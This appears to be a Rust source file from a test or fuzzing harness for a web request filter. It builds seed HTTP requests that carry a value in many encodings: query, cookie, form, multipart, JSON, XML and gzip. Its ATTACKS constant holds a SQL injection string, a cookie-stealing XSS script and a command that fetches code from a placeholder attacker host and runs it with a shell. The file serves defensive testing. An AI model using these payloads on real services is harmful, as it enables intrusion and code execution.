//! The requests that mutation starts from. Each carries one value, in the form that its place wants; with an attack in it
//! the service refuses the request, and every reader that knows the place sees the value.

use std::fmt::Write as _;
use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;

use crate::case::Case;

/// Attacks of three languages; a reading of a mutant counts when it has one of them letter by letter.
pub(crate) const ATTACKS: [&str; 3] = [
    "1' UNION SELECT login,password FROM users-- -",
    "<script>alert(document.cookie)</script>",
    "$(curl http://evil.example/x|sh)",
];

/// A value that no rule minds, and that every place has to write in its own way.
pub(crate) const HONEST: &str = "tea & biscuits, 100 % \"fresh\"";

/// A seed.
pub(crate) struct Seed {
    pub(crate) name: &'static str,
    pub(crate) build: fn(&str) -> Case,
}

/// Boundary of the multipart seeds.
pub(crate) const BOUNDARY: &str = "----WebKitFormBoundary7MA4YWxkTrZu0gW";

/// All seeds.
pub(crate) const SEEDS: &[Seed] = &[
    Seed { name: "query", build: |value| Case::get(&format!("/search?page=2&q={}&lang=en", form(value))) },
    Seed { name: "query, every byte coded", build: |value| Case::get(&format!("/search?q={}", hex(value))) },
    Seed {
        name: "query of a nested name",
        build: |value| Case::get(&format!("/s?a%5Bb%5D%5B%5D={}&a[c]=1", form(value))),
    },
    Seed { name: "path", build: |value| Case::get(&format!("/shop/{}/reviews", hex(value))) },
    Seed {
        name: "cookie",
        build: |value| {
            Case::get("/").with(&format!("Cookie: sid=31d4d96e407aad42; note={}; lang=en", hex(value)))
        },
    },
    Seed {
        name: "quoted cookie",
        build: |value| Case::get("/").with(&format!("Cookie: lang=en; note=\"{}\"", octal(value))),
    },
    Seed { name: "header", build: |value| Case::get("/").with(&format!("X-Note: {value}")) },
    Seed {
        name: "referer",
        build: |value| Case::get("/").with(&format!("Referer: https://shop.example/a?q={}", form(value))),
    },
    Seed { name: "form", build: |value| Case::post(FORM, format!("name=Ann&note={}&send=1", form(value))) },
    Seed {
        name: "form with a charset",
        build: |value| {
            Case::post(
                "application/x-www-form-urlencoded; charset=UTF-8",
                format!("note={}&name=Ann+Lee", hex(value)),
            )
        },
    },
    Seed {
        name: "form of nested names",
        build: |value| Case::post(FORM, format!("user[name]=Ann&user[notes][]={}&user.mail=a", form(value))),
    },
    Seed {
        name: "multipart field",
        build: |value| multipart(&[field("name", "Ann"), field("note", value), field("send", "1")]),
    },
    Seed {
        name: "multipart field beside a file",
        build: |value| multipart(&[file("photo", "tea.txt", "two cups"), field("note", value)]),
    },
    Seed {
        name: "multipart field with a type",
        build: |value| multipart(&[typed("note", "text/plain; charset=utf-8", value), field("name", "Ann")]),
    },
    Seed {
        name: "multipart file name",
        build: |value| multipart(&[field("name", "Ann"), file("photo", &quoted(value), "two cups")]),
    },
    Seed {
        name: "JSON string",
        build: |value| {
            Case::post(
                "application/json",
                format!("{{\"name\": \"Ann\", \"note\": \"{}\", \"page\": 2}}", json(value)),
            )
        },
    },
    Seed {
        name: "JSON string, every letter escaped",
        build: |value| {
            Case::post("application/json; charset=utf-8", format!("{{\"note\": \"{}\"}}", escaped(value)))
        },
    },
    Seed {
        name: "JSON in lists",
        build: |value| {
            Case::post(
                "application/json",
                format!("[1, null, [\"a\", {{\"note\": [\"{}\"]}}], true]", json(value)),
            )
        },
    },
    Seed {
        name: "JSON name",
        build: |value| {
            Case::post("application/json", format!("{{\"name\": \"Ann\", \"{}\": 1.5e3}}", json(value)))
        },
    },
    Seed {
        name: "bare JSON string",
        build: |value| Case::post("application/vnd.shop+json", format!("\"{}\"", json(value))),
    },
    Seed {
        name: "JSON as text",
        build: |value| Case::post("text/plain", format!("{{\"note\": \"{}\"}}", json(value))),
    },
    Seed {
        name: "XML text",
        build: |value| {
            Case::post(
                "application/xml",
                format!("<?xml version=\"1.0\"?>\n<order id=\"1\"><note>{}</note></order>", xml(value)),
            )
        },
    },
    Seed {
        name: "XML attribute",
        build: |value| {
            Case::post("text/xml; charset=utf-8", format!("<order><line note='{}'/></order>", xml(value)))
        },
    },
    Seed {
        name: "gzip of JSON",
        build: |value| gzip(Case::post("application/json", format!("{{\"note\": \"{}\"}}", json(value)))),
    },
    Seed {
        name: "gzip of a form",
        build: |value| gzip(Case::post(FORM, format!("name=Ann&note={}", form(value)))),
    },
    Seed {
        name: "JSON in a part",
        build: |value| {
            multipart(&[
                typed("data", "application/json", &format!("{{\"note\": \"{}\"}}", json(value))),
                field("name", "Ann"),
            ])
        },
    },
];

/// Seeds with the value where no field is: the content of a file passes with an attack in it, and no reader calls it a field.
pub(crate) const UNSEEN: &[Seed] = &[
    Seed {
        name: "content of a file",
        build: |value| multipart(&[field("name", "Ann"), file("photo", "tea.txt", value)]),
    },
    Seed {
        name: "content of one file of two",
        build: |value| multipart(&[file("photo", "tea.txt", value), file("page", "cup.txt", "two")]),
    },
    Seed {
        name: "content of an unnamed type",
        build: |value| {
            multipart(&[format!(
                "Content-Disposition: form-data; name=\"photo\"; filename=\"tea.bin\"\r\n\r\n{value}"
            )])
        },
    },
];

const FORM: &str = "application/x-www-form-urlencoded";

/// A multipart body of these parts.
pub(crate) fn multipart(parts: &[String]) -> Case {
    let mut body = String::new();
    for part in parts {
        let _ = write!(body, "--{BOUNDARY}\r\n{part}\r\n");
    }
    let _ = write!(body, "--{BOUNDARY}--\r\n");
    Case::post(&format!("multipart/form-data; boundary={BOUNDARY}"), body)
}

fn field(name: &str, value: &str) -> String {
    format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}")
}

fn typed(name: &str, content_type: &str, value: &str) -> String {
    format!("Content-Disposition: form-data; name=\"{name}\"\r\nContent-Type: {content_type}\r\n\r\n{value}")
}

fn file(name: &str, file_name: &str, content: &str) -> String {
    format!(
        "Content-Disposition: form-data; name=\"{name}\"; filename=\"{file_name}\"\r\nContent-Type: text/plain\r\n\r\n{content}"
    )
}

/// As browsers write it in a form.
pub(crate) fn form(value: &str) -> String {
    percent(value, |byte| byte.is_ascii_alphanumeric() || b"*-._".contains(&byte)).replace("%20", "+")
}

/// With every byte coded.
pub(crate) fn hex(value: &str) -> String {
    percent(value, |_| false)
}

fn percent(value: &str, is_plain: fn(u8) -> bool) -> String {
    value.bytes().map(|b| if is_plain(b) { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
}

/// Between quotes of a cookie.
fn octal(value: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b" -_.()$/:".contains(&byte);
    value.bytes().map(|b| if plain(b) { char::from(b).to_string() } else { format!("\\{b:03o}") }).collect()
}

/// Between quotes of a parameter, as browsers write it.
fn quoted(value: &str) -> String {
    value.replace('"', "%22")
}

fn json(value: &str) -> String {
    value.replace('\\', "\\\\").replace('"', "\\\"")
}

fn xml(value: &str) -> String {
    value.replace('&', "&amp;").replace('<', "&lt;").replace('\'', "&#39;")
}

fn gzip(mut case: Case) -> Case {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    case.body = encoder.write_all(&case.body).and_then(|()| encoder.finish()).unwrap_or_default();
    case.with("Content-Encoding: gzip")
}

fn escaped(value: &str) -> String {
    value.encode_utf16().fold(String::new(), |mut text, unit| {
        let _ = write!(text, "\\u{unit:04x}");
        text
    })
}
